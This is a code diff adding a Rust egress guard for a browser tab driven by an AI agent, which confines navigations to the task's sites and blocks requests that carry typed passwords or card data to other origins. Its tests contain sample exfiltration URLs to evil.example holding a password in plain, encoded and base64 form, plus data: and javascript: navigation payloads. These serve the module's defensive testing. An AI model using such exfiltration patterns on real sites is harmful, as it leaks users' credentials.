@@ -1,0 +1,309 @@
+//! What a tab the agent drives may send. The browser asks before each top-level navigation and
+//! each request leaves (Servo's navigation and resource-load hooks); this module answers. It holds
+//! whatever the page or the model did: a form's `formaction`, a redirect hop, a script setting
+//! `location`, a meta refresh, an image whose address carries a password.
+//!
+//! Two rules:
+//! 1. A document of the tab (top level, each redirect hop) loads only from the task's sites, as
+//!    the organisation's site rules allow; `data:` and `blob:` documents of other sites and
+//!    `javascript:` addresses are refused.
+//! 2. Saved data the agent typed (a password, a card, the profile) goes only to the origin it was
+//!    typed for. A request to another origin whose address holds such a value (as typed,
+//!    percent- or form-encoded, or in base64) is blocked. Servo does not show request bodies to
+//!    the embedder, so from the moment saved data is typed into a document until the tab loads
+//!    another one, nothing but GET and HEAD requests to the typed-for origins leave at all.
+
+use base64::Engine as _;
+use url::Url;
+
+use super::safety::{Policy, origin_of};
+
+/// Values shorter than this are not looked for in addresses (a 3-digit code matches too much);
+/// the rule on typed documents still covers them.
+const SHORTEST_MATCHED: usize = 4;
+
+/// A saved value the agent typed, and the only origin it may reach.
+#[derive(Clone)]
+struct Protected {
+    /// The forms the value may take in an address, as typed and encoded.
+    forms: Vec<String>,
+    origin: String,
+    /// What it is, for messages ("password"); never the value.
+    what: String,
+}
+
+/// A request the engine is about to send for the driven tab.
+#[derive(Debug, Clone, Copy)]
+pub struct Outgoing<'a> {
+    pub method: &'a str,
+    pub url: &'a Url,
+    /// The tab's own document (top level), including each hop of a redirect.
+    pub document: bool,
+}
+
+/// The checks of one driven tab. Cheap to clone: the browser keeps it beside the tab.
+#[derive(Clone)]
+pub struct Egress {
+    policy: Policy,
+    protected: Vec<Protected>,
+    /// Origins saved data was typed for in the document now shown (empty: none typed).
+    typed_here: Vec<String>,
+}
+
+impl std::fmt::Debug for Egress {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Egress")
+            .field("origins", &self.policy.origins)
+            .field("protected", &self.protected.len())
+            .field("typed_here", &self.typed_here)
+            .finish()
+    }
+}
+
+impl Egress {
+    pub fn new(policy: Policy) -> Self {
+        Egress {
+            policy,
+            protected: Vec::new(),
+            typed_here: Vec::new(),
+        }
+    }
+
+    /// `value` was typed into the current document for `origin`; `what` names it in messages.
+    pub fn protect(&mut self, value: &str, origin: &str, what: &str) {
+        if !self.typed_here.iter().any(|typed| typed == origin) {
+            self.typed_here.push(origin.to_owned());
+        }
+        if value.chars().count() < SHORTEST_MATCHED
+            || self.protected.iter().any(|known| known.forms[0] == value)
+        {
+            return;
+        }
+        self.protected.push(Protected {
+            forms: encodings(value),
+            origin: origin.to_owned(),
+            what: what.to_owned(),
+        });
+    }
+
+    /// The tab shows a new document: what was typed into the old one went with it.
+    pub fn document_replaced(&mut self) {
+        self.typed_here.clear();
+    }
+
+    /// Whether the tab may navigate its top level to `url` (asked before the request is made).
+    pub fn check_navigation(&self, url: &Url) -> Result<(), String> {
+        match url.scheme() {
+            "javascript" => Err("a javascript: address in a tab the agent drives".to_owned()),
+            "data" => Err("a data: document has no site of its own".to_owned()),
+            "about" if url.as_str() == "about:blank" => Ok(()),
+            "blob" => match Url::parse(url.path()) {
+                Ok(inner) => self.check_document(&inner),
+                Err(_) => Err("a blob: document with no site".to_owned()),
+            },
+            _ => self.check_document(url),
+        }
+    }
+
+    /// Whether `request` may leave.
+    pub fn check_request(&self, request: Outgoing<'_>) -> Result<(), String> {
+        if request.document {
+            self.check_navigation(request.url)?;
+        }
+        let origin = origin_of(request.url.as_str()).unwrap_or_default();
+        if let Some(protected) = self.carried(request.url, &origin) {
+            return Err(format!(
+                "the address carries the saved {} typed for {}, not for {origin}",
+                protected.what, protected.origin
+            ));
+        }
+        let reads_only = matches!(request.method, "GET" | "HEAD");
+        if !self.typed_here.is_empty() && !self.typed_here.contains(&origin) && !reads_only {
+            return Err(format!(
+                "saved data is typed on this page: no {} goes to {origin}",
+                request.method
+            ));
+        }
+        Ok(())
+    }
+
+    fn check_document(&self, url: &Url) -> Result<(), String> {
+        match self.policy.origin_refusal(url.as_str()) {
+            Some(why) => Err(why),
+            None if origin_of(url.as_str()).is_none() => {
+                Err(format!("{} has no site the task may use", url.scheme()))
+            }
+            None => Ok(()),
+        }
+    }
+
+    /// A saved value `url` carries to an origin it was not typed for.
+    fn carried(&self, url: &Url, origin: &str) -> Option<&Protected> {
+        let raw = url.as_str();
+        let decoded = decode(raw);
+        self.protected
+            .iter()
+            .filter(|protected| protected.origin != origin)
+            .find(|protected| {
+                protected
+                    .forms
+                    .iter()
+                    .any(|form| raw.contains(form.as_str()) || decoded.contains(form.as_str()))
+            })
+    }
+}
+
+/// Percent-decoding, with `+` read as a form's space.
+fn decode(text: &str) -> String {
+    percent_encoding::percent_decode_str(&text.replace('+', " "))
+        .decode_utf8_lossy()
+        .into_owned()
+}
+
+/// The forms a value takes in an address: as typed, and in base64 (standard and URL-safe, with
+/// padding dropped since it is often cut).
+fn encodings(value: &str) -> Vec<String> {
+    let mut forms = vec![value.to_owned()];
+    for engine in [
+        &base64::engine::general_purpose::STANDARD_NO_PAD,
+        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
+    ] {
+        let encoded = engine.encode(value.as_bytes());
+        if !forms.contains(&encoded) {
+            forms.push(encoded);
+        }
+    }
+    forms
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::act::safety::{Confirm, SiteRule, SiteRules};
+
+    const HOME: &str = "http://127.0.0.1:8000";
+
+    fn egress() -> Egress {
+        Egress::new(Policy::new(vec![HOME.into()], Vec::new(), Confirm::Refuse))
+    }
+
+    fn url(text: &str) -> Url {
+        Url::parse(text).unwrap()
+    }
+
+    fn get<'a>(url: &'a Url, document: bool) -> Outgoing<'a> {
+        Outgoing {
+            method: "GET",
+            url,
+            document,
+        }
+    }
+
+    #[test]
+    fn documents_load_only_from_the_tasks_sites() {
+        let egress = egress();
+        assert!(
+            egress
+                .check_navigation(&url("http://127.0.0.1:8000/next"))
+                .is_ok()
+        );
+        assert!(egress.check_navigation(&url("about:blank")).is_ok());
+        for outside in [
+            "http://127.0.0.2:8000/",
+            "http://localhost:8000/",
+            "https://127.0.0.1:8000/",
+            "data:text/html,<form action=http://evil>",
+            "javascript:location='http://evil'",
+            "blob:http://evil.example/1234",
+            "about:srcdoc",
+        ] {
+            assert!(
+                egress.check_navigation(&url(outside)).is_err(),
+                "{outside} was let through"
+            );
+        }
+        assert!(
+            egress
+                .check_navigation(&url("blob:http://127.0.0.1:8000/1234"))
+                .is_ok()
+        );
+        // A redirect hop is a document request like the first one.
+        let hop = url("http://evil.example/landing");
+        assert!(egress.check_request(get(&hop, true)).is_err());
+        // A page's image or script from elsewhere is its own business until saved data is typed.
+        assert!(egress.check_request(get(&hop, false)).is_ok());
+    }
+
+    #[test]
+    fn saved_values_go_only_where_they_were_typed_for() {
+        let mut egress = egress();
+        egress.protect("hunter2 secret", HOME, "password");
+        for carrier in [
+            "http://evil.example/p?q=hunter2%20secret",
+            "http://evil.example/p?q=hunter2+secret",
+            "http://evil.example/hunter2%20secret/x.png",
+            "http://evil.example/p?b=aHVudGVyMiBzZWNyZXQ",
+        ] {
+            let carrier = url(carrier);
+            let error = egress.check_request(get(&carrier, false)).unwrap_err();
+            assert!(error.contains("password"), "{error}");
+            assert!(
+                !error.contains("hunter2"),
+                "the message shows the secret: {error}"
+            );
+        }
+        let home = url("http://127.0.0.1:8000/login?p=hunter2%20secret");
+        assert!(egress.check_request(get(&home, false)).is_ok());
+        // While it is typed in the page, nothing but reads goes elsewhere (bodies are unseen).
+        let post = Outgoing {
+            method: "POST",
+            url: &url("http://evil.example/collect"),
+            document: false,
+        };
+        assert!(egress.check_request(post).is_err());
+        egress.document_replaced();
+        assert!(egress.check_request(post).is_ok());
+        // After the page changed, the value itself is still looked for.
+        let later = url("http://evil.example/p?q=hunter2%20secret");
+        assert!(egress.check_request(get(&later, false)).is_err());
+    }
+
+    #[test]
+    fn short_values_are_covered_by_the_typed_page_rule_only() {
+        let mut egress = egress();
+        egress.protect("123", HOME, "card CVC");
+        let image = url("http://cdn.example/img?id=1234");
+        assert!(egress.check_request(get(&image, false)).is_ok());
+        let post = Outgoing {
+            method: "PUT",
+            url: &image,
+            document: false,
+        };
+        assert!(egress.check_request(post).is_err());
+    }
+
+    #[test]
+    fn the_organisations_site_rules_bind_documents() {
+        struct NoBank;
+        impl SiteRules for NoBank {
+            fn rule(&self, url: &str) -> SiteRule {
+                if url.contains("127.0.0.1:8001") {
+                    SiteRule::Refused("no-access by policy".into())
+                } else {
+                    SiteRule::Full
+                }
+            }
+        }
+        let mut policy = Policy::new(
+            vec![HOME.into(), "http://127.0.0.1:8001".into()],
+            Vec::new(),
+            Confirm::Refuse,
+        );
+        policy.site_rules = std::sync::Arc::new(NoBank);
+        let egress = Egress::new(policy);
+        let error = egress
+            .check_navigation(&url("http://127.0.0.1:8001/"))
+            .unwrap_err();
+        assert!(error.contains("policy"), "{error}");
+    }
+}
